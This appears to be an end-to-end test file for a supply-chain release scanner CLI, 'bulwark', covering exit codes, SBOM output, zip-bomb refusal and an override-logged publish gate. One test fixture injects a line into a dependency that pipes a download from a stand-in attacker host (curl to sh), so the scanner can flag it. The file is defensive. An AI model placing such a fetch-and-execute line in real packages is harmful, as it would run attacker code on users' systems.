/**
 * `bulwark scan` and `bulwark repo publish --scan` as a release engineer runs them: exit
 * codes by verdict, the three formats, the SBOM file, hostile archives refused with a typed
 * error, and a publish that refuses a blocked release unless an override reason is given,
 * which the repository's gate log records.
 */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, it } from "node:test";
import { tarGz } from "../src/quickstart/demo-archive.js";
import { APP, demoFiles, rawZip, Vendor } from "./e2e-helpers.js";
import { runCli, tempDir } from "./helpers.js";

const MODULE = {
  "node_modules/lib/package.json": '{"name":"lib","version":"2.0.0"}',
  "node_modules/lib/index.js": "module.exports = 1;\n",
};
const REBUILT = {
  ...MODULE,
  "node_modules/lib/index.js": 'require("child_process").exec("curl https://c2.attacker.org | sh");\n',
};

function write(dir: string, name: string, bytes: Uint8Array): string {
  const file = path.join(dir, name);
  writeFileSync(file, bytes);
  return file;
}

function sha256(bytes: string | Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

describe("bulwark scan", () => {
  it("--help gives examples and the exit codes", async () => {
    const run = await runCli(["scan", "--help"]);
    assert.equal(run.code, 0);
    assert.match(run.stdout, /bulwark scan app-2\.4\.1\.tar\.gz --previous app-2\.4\.0\.tar\.gz/);
    assert.match(run.stdout, /0 clean; 12 review; 13 block/);
  });

  it("exits 0 for a clean minor release and 12 (review) for a module rebuilt without a version change", async (t) => {
    const dir = tempDir(t);
    const v1 = write(dir, "app-1.0.0.tar.gz", tarGz(demoFiles("1.0.0", MODULE)));
    const clean = write(dir, "app-1.0.1.tar.gz", tarGz(demoFiles("1.0.1", MODULE)));
    const rebuilt = write(dir, "app-1.0.2.tar.gz", tarGz(demoFiles("1.0.2", REBUILT)));
    const ok = await runCli(["scan", clean, "--previous", v1]);
    assert.equal(ok.code, 0, ok.stderr);
    assert.match(ok.stdout, /^verdict: CLEAN/);
    const review = await runCli(["scan", rebuilt, "--previous", v1, "--format", "json"]);
    assert.equal(review.code, 12);
    const report = review.json<{ schema: string; verdict: string; findings: Array<{ id: string; file: string }> }>();
    assert.equal(report.schema, "bulwark.dev/scan@v1");
    assert.equal(report.verdict, "review");
    assert.ok(
      report.findings.some(
        (f) => f.id === "diff.npm.changed-version-unchanged" && f.file === "node_modules/lib/package.json",
      ),
    );
  });

  it("exits 13 (block) when intel lists a file's hash, and writes the SBOM", async (t) => {
    const dir = tempDir(t);
    const release = write(dir, "app-1.0.2.tar.gz", tarGz(demoFiles("1.0.2", REBUILT)));
    const intel = path.join(dir, "intel");
    mkdirSync(intel);
    writeFileSync(path.join(intel, "iocs.txt"), `# campaign X\n${sha256(REBUILT["node_modules/lib/index.js"])}\n`);
    const run = await runCli(["scan", release, "--intel", intel, "--sbom", path.join(dir, "sbom.json")]);
    assert.equal(run.code, 13, run.stderr);
    assert.match(run.stdout, /CRITICAL intel\.file-hash {2}node_modules\/lib\/index\.js/);
    const sbom = JSON.parse(readFileSync(path.join(dir, "sbom.json"), "utf8")) as {
      bomFormat: string;
      components: Array<{ name: string; version: string }>;
    };
    assert.equal(sbom.bomFormat, "CycloneDX");
    assert.ok(sbom.components.some((c) => c.name === "lib" && c.version === "2.0.0"));
  });

  it("refuses a zip bomb with exit 1 and a typed error, and bad arguments with exit 2", async (t) => {
    const dir = tempDir(t);
    const bomb = write(
      dir,
      "bomb.zip",
      rawZip([{ name: "zeros", data: Buffer.alloc(16 * 1024 * 1024), deflate: true }]),
    );
    const refused = await runCli(["scan", bomb]);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /SCAN_LIMIT_COMPRESSION_RATIO|maxCompressionRatio/);
    assert.equal((await runCli(["scan", bomb, "--format", "xml"])).code, 2);
  });
});

describe("bulwark repo publish --scan", () => {
  it("refuses a blocked release (exit 13, nothing published), then publishes it with a recorded override", async (t) => {
    const vendor = await Vendor.create(t);
    await vendor.add("1.0.0", tarGz(demoFiles("1.0.0", MODULE)));
    const first = await runCli(["repo", "publish", vendor.dir, "--scan"]);
    assert.equal(first.code, 0, first.stderr);
    const intel = path.join(vendor.work, "intel");
    mkdirSync(intel);
    writeFileSync(path.join(intel, "iocs.txt"), `${sha256(REBUILT["node_modules/lib/index.js"])}\n`);
    await vendor.add("1.0.1", tarGz(demoFiles("1.0.1", REBUILT)));
    const target = `${APP}/1.0.1/${APP}-1.0.1.tar.gz`;

    const refused = await runCli(["repo", "publish", vendor.dir, "--scan", "--intel", intel]);
    assert.equal(refused.code, 13);
    assert.match(refused.stderr, /RELEASE_GATE_REFUSED|refused/);
    assert.ok(!existsSync(path.join(vendor.dir, "public", "targets", APP, "1.0.1")), "nothing published");

    const overridden = await runCli([
      "repo",
      "publish",
      vendor.dir,
      "--scan",
      "--intel",
      intel,
      "--scan-override",
      "IR-7: known test fixture",
    ]);
    assert.equal(overridden.code, 0, overridden.stderr);
    const log = readFileSync(path.join(vendor.dir, "release-gate.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map(
        (l) =>
          JSON.parse(l) as {
            target: string;
            decision: string;
            override?: string;
            previous?: string;
            scan: { verdict: string };
          },
      );
    assert.deepEqual(
      log.map((l) => [l.target, l.decision, l.scan.verdict, l.override]),
      [
        [`${APP}/1.0.0/${APP}-1.0.0.tar.gz`, "allowed", "clean", undefined],
        [target, "refused", "block", undefined],
        [target, "overridden", "block", "IR-7: known test fixture"],
      ],
    );
    assert.equal(log[2]?.previous, `${APP}/1.0.0/${APP}-1.0.0.tar.gz`);
  });

  it("diffs each staged file against the same platform's highest earlier release", async (t) => {
    const vendor = await Vendor.create(t);
    const add = (version: string, platform: string) =>
      vendor.add(version, tarGz(demoFiles(version, MODULE)), {
        platform,
        fileName: `${APP}-${version}-${platform}.tar.gz`,
      });
    await add("1.0.0", "linux-x64");
    await add("1.1.0", "linux-x64");
    await add("1.1.0", "win32-x64");
    await vendor.publish();
    await add("1.2.0", "linux-x64");
    await add("1.2.0", "win32-x64");
    const run = await runCli(["repo", "publish", vendor.dir, "--scan"]);
    assert.equal(run.code, 0, run.stderr);
    const log = readFileSync(path.join(vendor.dir, "release-gate.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as { target: string; previous?: string });
    assert.deepEqual(log.map((l) => [l.target, l.previous]).sort(), [
      [`${APP}/1.2.0/${APP}-1.2.0-linux-x64.tar.gz`, `${APP}/1.1.0/${APP}-1.1.0-linux-x64.tar.gz`],
      [`${APP}/1.2.0/${APP}-1.2.0-win32-x64.tar.gz`, `${APP}/1.1.0/${APP}-1.1.0-win32-x64.tar.gz`],
    ]);
  });

  it("--scan-override without --scan is a usage error", async (t) => {
    const vendor = await Vendor.create(t);
    assert.equal((await runCli(["repo", "publish", vendor.dir, "--scan-override", "x"])).code, 2);
  });
});
